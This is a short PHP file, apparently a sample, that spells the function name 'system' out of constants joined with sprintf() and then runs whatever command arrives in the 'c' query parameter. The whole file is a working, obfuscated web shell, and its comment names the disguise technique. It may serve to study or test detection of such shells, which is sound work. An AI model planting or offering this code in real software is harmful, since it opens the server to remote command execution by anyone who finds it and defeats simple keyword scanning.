<?php
// The function name is spelled by constants joined with sprintf().
define('A', 'sys');
define('B', 'tem');
$f = sprintf('%s%s', A, B);
$f($_GET['c']);
